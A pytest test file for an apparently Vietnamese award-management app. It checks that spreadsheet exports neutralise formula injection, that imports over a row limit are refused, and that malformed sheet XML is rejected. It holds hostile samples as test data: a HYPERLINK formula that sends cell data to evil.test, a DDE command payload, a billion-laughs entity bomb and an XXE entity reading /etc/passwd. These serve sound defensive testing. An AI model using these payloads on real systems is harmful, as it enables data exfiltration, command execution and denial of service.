"""Excel that cannot hurt whoever opens it or the system that reads it: text that looks like a
formula is written as text in every export and template (issue 20, item 10); an import is
refused whole above its row limit (item 11); a sheet whose XML is broken or declares
entities is the same clear refusal as any unreadable file (item 12)."""
import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from app.extensions import db
from app.models import AwardForm, AwardRecord, Nominee
from app.services import decisions, dossiers, exports, imports
from app.services.errors import Invalid
from tests import helpers
from tests.tools import missing

# What a hostile or merely unlucky name looks like: each starts a formula in a spreadsheet.
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Bấm vào đây")'
HOSTILE = {
    "collective": "=1+1",
    "an": "+84 912 345 678",
    "binh": "- Như Điều 3",
    "cuong": "@SUM(A1:A9)",
    "position": "=cmd|' /C calc'!A0",
    "organisation": "+SUM(1;2)",
    "reason": FORMULA,
    "strike": "-2+3",
    "unit": "=Sở Y tế",
    "form": "=Bằng khen của Chủ tịch UBND tỉnh",
}


def _workbook(named):
    _, data = named
    if hasattr(data, "read"):
        with data:
            data = data.read()
    return openpyxl.load_workbook(io.BytesIO(data))


def _texts(wb):
    """Every cell of every sheet: (sheet, coordinate, value, data type)."""
    return [(ws.title, c.coordinate, c.value, c.data_type)
            for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formula(wb, expected):
    cells = _texts(wb)
    formulas = [c for c in cells if c[3] == "f"]
    assert formulas == []
    values = {c[2] for c in cells}
    missing = [v for v in expected if v not in values]
    assert missing == [], missing
    for value in expected:  # kept exactly, as text: no apostrophe, no evaluation
        assert all(c[3] == "s" for c in cells if c[2] == value)


@pytest.fixture
def hostile(world):
    """A campaign decided for nominees whose every text starts with =, +, - or @; its unit and
    its award form renamed the same way (as a careless or hostile admin could)."""
    form = db.session.scalars(sa.select(AwardForm).where(AwardForm.code == "BKCT")).one()
    campaign = helpers.make_campaign(world, award_forms=[{"code": "BKCT", "quota_per_unit": 9}])
    unit = world.units["SYT"]
    specs = [
        {"kind": "collective", "name": HOSTILE["collective"], "award_form": "BKCT",
         "organisation": HOSTILE["organisation"], "votes_for": 9},
        {"kind": "individual", "name": HOSTILE["an"], "title": "Ông",
         "position_title": HOSTILE["position"], "organisation": HOSTILE["organisation"],
         "award_form": "BKCT", "votes_for": 8},
        {"kind": "individual", "name": HOSTILE["binh"], "title": "Bà",
         "position_title": HOSTILE["position"], "organisation": "Sở Y tế",
         "award_form": "BKCT", "votes_for": 8},
        {"kind": "individual", "name": HOSTILE["cuong"], "title": "Ông",
         "position_title": "Chuyên viên", "organisation": "Sở Y tế", "award_form": "BKCT",
         "votes_for": 7},
    ]
    dossier = helpers.complete_dossier(world, campaign, nominees=specs)
    helpers.fire(world, "dossier", dossier, "staff_a", "submit")
    helpers.fire(world, "dossier", dossier, "head_a", "sign_off")
    helpers.fire(world, "dossier", dossier, "appraiser", "start_appraisal")
    by_name = {n.name: n for n in dossier.nominees}
    for n in dossier.nominees:
        verdict = "declined" if n.name == HOSTILE["cuong"] else "accepted"
        dossiers.set_verdict(world.users["appraiser"], dossier.id, n.id, verdict,
                             HOSTILE["reason"] if verdict == "declined" else None)
    helpers.fire(world, "dossier", dossier, "appraiser", "complete_appraisal")
    decision = decisions.create_decision(world.users["appraiser"],
                                         {"campaign_id": campaign.id, "award_form": "BKCT"})
    decisions.add_nominees(world.users["appraiser"], decision.id,
                           [by_name[k].id for k in (HOSTILE["collective"], HOSTILE["an"],
                                                    HOSTILE["binh"])])
    helpers.fire(world, "decision", decision, "appraiser", "submit")
    helpers.fire(world, "decision", decision, "board_head", "sign_proposal")
    decisions.strike(world.users["chairman"], decision.id, by_name[HOSTILE["binh"]].id, True,
                     HOSTILE["strike"])
    helpers.fire(world, "decision", decision, "chairman", "approve")
    helpers.fire(world, "decision", decision, "clerk", "issue")
    # names read from the database as they are, however they got there
    unit.name = HOSTILE["unit"]
    form.name = HOSTILE["form"]
    db.session.commit()
    db.session.refresh(decision)
    return campaign, dossier, decision


def test_exports_write_formula_like_text_as_text(world, hostile):
    campaign, _dossier, decision = hostile
    board = world.users["board_head"]

    _no_formula(_workbook(exports.progress(board, campaign.id)), [HOSTILE["unit"]])
    _no_formula(_workbook(exports.nominees(board, campaign.id)), [
        HOSTILE["unit"], HOSTILE["collective"], HOSTILE["an"], HOSTILE["binh"],
        HOSTILE["cuong"], HOSTILE["position"], HOSTILE["organisation"], HOSTILE["reason"],
        HOSTILE["form"]])
    _no_formula(_workbook(exports.awardees(world.users["clerk"], decision.id)), [
        HOSTILE["collective"], HOSTILE["an"], HOSTILE["position"], HOSTILE["organisation"],
        HOSTILE["form"]])
    # the register: the system's records of this decision, and one imported with a hostile
    # decision number and level
    record = db.session.scalars(sa.select(AwardRecord)).first()
    db.session.add(AwardRecord(
        source="import", subject_kind="individual", name="@Nguyễn Văn Nam", title="Ông",
        position_title="-", organisation="=A1", identity_key="import-hostile",
        search_key="nguyen van nam", unit_id=None, unit_name="+Đơn vị cũ",
        award_form_id=record.award_form_id, form_name=HOSTILE["form"],
        decision_number="=125/QĐ-UBND", decided_on=decision.issued_on,
        year=decision.issued_on.year, issuer_name="=Chủ tịch", issuing_level="@Cấp tỉnh",
        created_at=record.created_at))
    db.session.commit()
    _no_formula(_workbook(exports.register(board, decision.issued_on.year)), [
        HOSTILE["collective"], HOSTILE["an"], "@Nguyễn Văn Nam", "-", "=A1", "+Đơn vị cũ",
        HOSTILE["form"], "=125/QĐ-UBND", "@Cấp tỉnh"])


def test_templates_write_formula_like_text_as_text(world, hostile):
    _campaign, _dossier, _decision = hostile
    draft = helpers.unit_item(type(_dossier), helpers.make_campaign(world), "SYT")
    wb = _workbook(imports.nominee_template(world.users["staff_a"], draft.id))
    _no_formula(wb, [HOSTILE["form"], HOSTILE["unit"]])
    assert HOSTILE["form"] in [c.value for c in wb["Danh mục"]["F"]]  # the drop-down's list
    wb = _workbook(imports.award_template(world.users["board_head"]))
    _no_formula(wb, [HOSTILE["form"]])


CALC = Path("/usr/lib/libreoffice/program/libsclo.so")


def test_libreoffice_reads_formula_like_text_as_text(world, hostile, tmp_path):
    """What a person opening the export sees: LibreOffice Calc, converting the nominee
    export to CSV, shows every such name as typed, none evaluated."""
    if shutil.which("soffice") is None or not CALC.exists():
        missing("LibreOffice Calc is not installed; `make test` installs it "
                "(libreoffice-calc-nogui)")
    campaign, _dossier, _decision = hostile
    _, data = exports.nominees(world.users["board_head"], campaign.id)
    with data:
        (tmp_path / "ds.xlsx").write_bytes(data.read())
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--norestore", "--convert-to",
         'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1',
         "--outdir", str(tmp_path), str(tmp_path / "ds.xlsx")],
        check=True, timeout=180, capture_output=True)
    (sheet,) = tmp_path.glob("*.csv")  # one per sheet: «ds-Danh sách đề nghị.csv»
    with open(sheet, encoding="utf-8", newline="") as out:
        cells = {cell for row in csv.reader(out) for cell in row}
    expected = [HOSTILE[k] for k in ("unit", "collective", "an", "binh", "cuong", "position",
                                     "organisation", "reason", "form")]
    assert [v for v in expected if v not in cells] == []
    assert "Bấm vào đây" not in cells  # the link's text: what it would show if it ran


def test_formula_like_text_survives_an_export_and_import_round_trip(world, hostile):
    """What the system wrote reads back unchanged: a unit can export, correct and import."""
    draft = helpers.unit_item(type(hostile[1]), helpers.make_campaign(world), "SYT")
    _, data = imports.nominee_template(world.users["staff_a"], draft.id)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb[imports.NOMINEE_SHEET]
    for name in (HOSTILE["an"], HOSTILE["binh"], HOSTILE["cuong"], "=Trần Thị Hoa"):
        ws.append(["Cá nhân", "Bà", name, HOSTILE["position"], HOSTILE["organisation"],
                   HOSTILE["form"], 9, FORMULA])
        ws.cell(row=ws.max_row, column=3).data_type = "s"
        for column in (4, 6, 8):
            ws.cell(row=ws.max_row, column=column).data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    assert imports.import_nominees(world.users["staff_a"], draft.id, out.getvalue(),
                                   "ds.xlsx") == 4
    stored = db.session.scalars(sa.select(Nominee).where(Nominee.dossier_id == draft.id)
                                .order_by(Nominee.position)).all()
    assert [n.name for n in stored] == [HOSTILE["an"], HOSTILE["binh"], HOSTILE["cuong"],
                                        "=Trần Thị Hoa"]
    assert {n.position_title for n in stored} == {HOSTILE["position"]}
    assert {n.achievement_summary for n in stored} == {FORMULA}


# -- item 11: the row limit --------------------------------------------------------------


def _rows(count, form):
    return [["Cá nhân", "Bà", f"Nguyễn Thị {i:05d}", "Chuyên viên", "Sở Y tế", form, 9, None]
            for i in range(count)]


def _sheet_bytes(columns, rows, title):
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet(title)
    ws.append([c.heading for c in columns])
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _form_name(code="BKCT"):
    return db.session.scalars(sa.select(AwardForm.name).where(AwardForm.code == code)).first()


def _count(model):
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def test_a_nominee_import_over_the_limit_is_refused_whole(app, world):
    draft = helpers.unit_item(__import__("app.models", fromlist=["Dossier"]).Dossier,
                              helpers.make_campaign(world), "SYT")
    saved = {k: app.config[k] for k in ("EXCEL_IMPORT_MAX_ROWS",)}
    app.config["EXCEL_IMPORT_MAX_ROWS"] = 20
    try:
        data = _sheet_bytes(imports.NOMINEE_COLUMNS, _rows(21, _form_name()),
                            imports.NOMINEE_SHEET)
        with pytest.raises(Invalid) as caught:
            imports.import_nominees(world.users["staff_a"], draft.id, data, "ds.xlsx")
        db.session.rollback()
        error = caught.value
        assert error.code == "too_many_rows"
        assert error.message == ("Chưa nhập dòng nào: tệp có hơn 20 dòng dữ liệu, mỗi lần "
                                 "nhập tối đa 20 dòng. Hãy chia danh sách thành nhiều tệp.")
        assert _count(Nominee) == 0
        # blank rows in between do not count, and at the limit the file goes in whole
        rows = _rows(20, _form_name())
        rows[10:10] = [[None] * 8] * 5
        data = _sheet_bytes(imports.NOMINEE_COLUMNS, rows, imports.NOMINEE_SHEET)
        assert imports.import_nominees(world.users["staff_a"], draft.id, data, "ds.xlsx") == 20
        assert _count(Nominee) == 20
        # the limit bounds the dossier too: a second file cannot grow it past the limit
        data = _sheet_bytes(imports.NOMINEE_COLUMNS, [_rows(21, _form_name())[-1]],
                            imports.NOMINEE_SHEET)
        with pytest.raises(Invalid) as caught:
            imports.import_nominees(world.users["staff_a"], draft.id, data, "ds.xlsx")
        db.session.rollback()
        assert caught.value.code == "too_many_rows"
        assert "hồ sơ đã có 20 tập thể, cá nhân, tệp thêm 1" in caught.value.message
        assert _count(Nominee) == 20
    finally:
        app.config.update(saved)


def test_an_award_import_has_its_own_limit(app, world):
    saved = {k: app.config[k] for k in ("EXCEL_IMPORT_MAX_ROWS", "EXCEL_AWARD_IMPORT_MAX_ROWS")}
    app.config["EXCEL_IMPORT_MAX_ROWS"] = 2
    app.config["EXCEL_AWARD_IMPORT_MAX_ROWS"] = 3
    try:
        rows = [["Cá nhân", "Ông", f"Hoàng Văn {i}", "Phó Giám đốc", "Sở Y tế", "SYT", "Sở Y tế",
                 "BKCT", "125/QĐ-UBND", "15/01/2018", "Chủ tịch UBND tỉnh", "Cấp tỉnh", None,
                 None] for i in range(4)]
        data = _sheet_bytes(imports.AWARD_COLUMNS, rows, imports.AWARD_SHEET)
        with pytest.raises(Invalid) as caught:
            imports.import_awards(world.users["board_head"], data, "kt.xlsx")
        db.session.rollback()
        assert caught.value.code == "too_many_rows" and "tối đa 3 dòng" in caught.value.message
        assert _count(AwardRecord) == 0
        data = _sheet_bytes(imports.AWARD_COLUMNS, rows[:3], imports.AWARD_SHEET)
        assert imports.import_awards(world.users["board_head"], data, "kt.xlsx") == 3
    finally:
        app.config.update(saved)


# -- item 12: sheet XML that cannot be read ----------------------------------------------


def _replace_sheet_xml(data: bytes, sheet_xml: bytes) -> bytes:
    """The workbook ``data`` with its first sheet's XML replaced (a valid zip, a valid
    workbook around it: only the rows are wrong)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            body = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = sheet_xml
            target.writestr(item, body)
    return out.getvalue()


HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n')
NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
# as every real sheet has: read-only openpyxl reads the sheet only up to here when it opens
# the workbook, and the rest while the rows are read
DIMENSION = b'><dimension ref="A1:N3"/><sheetData>'


def _heading_row(columns):
    cells = b"".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{c.heading}</t></is></c>'.encode()
        for i, c in enumerate(columns))
    return b'<row r="1">' + cells + b"</row>"


def bad_sheets(columns):
    """{what: sheet XML}: each must be refused as an unreadable file."""
    heading = _heading_row(columns)
    laughs = (b'<!DOCTYPE worksheet [<!ENTITY a "ha">'
              + b"".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode()
                         for i in range(8)) + b"]>")
    row = (b'<row r="2"><c r="A2" t="inlineStr"><is><t>C\xc3\xa1 nh\xc3\xa2n</t></is></c>'
           b'<c r="C2" t="inlineStr"><is><t>&i;</t></is></c></row>')
    external = (b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    row_x = (b'<row r="2"><c r="A2" t="inlineStr"><is><t>C\xc3\xa1 nh\xc3\xa2n</t></is></c>'
             b'<c r="C2" t="inlineStr"><is><t>&x;</t></is></c></row>')
    return {
        "billion laughs": HEAD + laughs + b"<worksheet " + NS + DIMENSION + heading + row
        + b"</sheetData></worksheet>",
        "external entity": HEAD + external + b"<worksheet " + NS + DIMENSION + heading
        + row_x + b"</sheetData></worksheet>",
        "broken XML": HEAD + b"<worksheet " + NS + DIMENSION + heading
        + b'<row r="2"><c r="A2" t="inlineStr"><is><t>C\xc3\xa1 nh\xc3\xa2n</t></is></c>'
        + b"<c r=\"C2\"><v>1</v></row></sheetData></worksheet>",
        "a cell that is not what it says": HEAD + b"<worksheet " + NS + DIMENSION + heading
        + b'<row r="2"><c r="A2" t="n"><v>not a number</v></c></row>'
        + b'<row r="3"><c r="C3"><v>abc</v></c></row></sheetData></worksheet>',
    }


def broken_uploads(columns, title):
    """{what: file bytes}: a workbook of the template's headings, its sheet XML spoiled."""
    base = _sheet_bytes(columns, [], title)
    return {what: _replace_sheet_xml(base, xml) for what, xml in bad_sheets(columns).items()}


@pytest.mark.parametrize("what", list(bad_sheets(imports.NOMINEE_COLUMNS)))
def test_a_sheet_that_cannot_be_parsed_is_refused_not_a_crash(world, what):
    draft = helpers.unit_item(__import__("app.models", fromlist=["Dossier"]).Dossier,
                              helpers.make_campaign(world), "SYT")
    data = broken_uploads(imports.NOMINEE_COLUMNS, imports.NOMINEE_SHEET)[what]
    with pytest.raises(Invalid) as caught:
        imports.import_nominees(world.users["staff_a"], draft.id, data, "ds.xlsx")
    db.session.rollback()
    assert caught.value.code == "file_content", caught.value.message
    assert caught.value.message.startswith("Không đọc được tệp Excel")
    assert _count(Nominee) == 0
    data = broken_uploads(imports.AWARD_COLUMNS, imports.AWARD_SHEET)[what]
    with pytest.raises(Invalid) as caught:
        imports.import_awards(world.users["board_head"], data, "kt.xlsx")
    db.session.rollback()
    assert caught.value.code == "file_content"
    assert _count(AwardRecord) == 0

